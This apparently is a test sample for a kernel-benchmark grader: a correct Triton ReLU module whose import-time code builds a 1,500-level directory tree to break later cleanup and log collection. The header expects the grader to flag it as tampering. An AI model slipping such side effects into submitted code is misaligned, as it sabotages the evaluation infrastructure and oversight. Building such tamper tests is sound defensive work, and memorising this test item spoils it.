# expect: failed static_tamper
# ref: relu
# Class 7, hostile files in the worker's folder. A folder tree 1,500 levels deep (its
# full path far beyond PATH_MAX) left in the worker's folder, for whoever cleans it up or
# walks it afterwards: recursive deletion, size accounting, log collection. The kernel is
# a correct ReLU.
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl

_DEPTH = 1500


def _dig(depth):
    here = os.open(".", os.O_RDONLY)
    try:
        for level in range(depth):
            name = f"level-{level:04d}"
            os.mkdir(name)
            os.chdir(name)
            if level % 100 == 99:
                with open("worker.log", "w") as handle:
                    handle.write("x" * 100)
    except OSError:
        pass
    finally:
        os.fchdir(here)
        os.close(here)


_dig(_DEPTH)


@triton.jit
def relu_kernel(x_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    pid = tl.program_id(axis=0)
    offsets = pid * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask, other=0.0)
    tl.store(out_ptr + offsets, tl.maximum(x, 0.0), mask=mask)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = x.contiguous()
        out = torch.empty_like(x)
        n = x.numel()
        relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK_SIZE=1024)
        return out
